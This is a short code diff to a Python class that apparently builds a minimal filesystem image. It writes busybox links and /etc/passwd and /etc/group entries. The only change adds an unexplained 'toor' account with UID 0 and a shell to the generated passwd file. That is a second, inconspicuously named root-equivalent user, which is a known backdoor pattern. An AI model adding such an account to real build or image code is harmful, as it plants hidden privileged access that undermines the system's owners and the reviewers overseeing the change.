@@ -100,6 +100,7 @@ class Native:
                 (self.lower / "bin" / line).symlink_to("busybox")
         (self.lower / "etc" / "passwd").write_text(
             "root:x:0:0:root:/root:/bin/sh\napp:x:1000:1001::/home/app:/bin/sh\n"
+            "toor:x:0:0::/:/bin/sh\n"
         )
         (self.lower / "etc" / "group").write_text("root:x:0:\nwheel:x:10:app,other\napp:x:1001:\n")
 
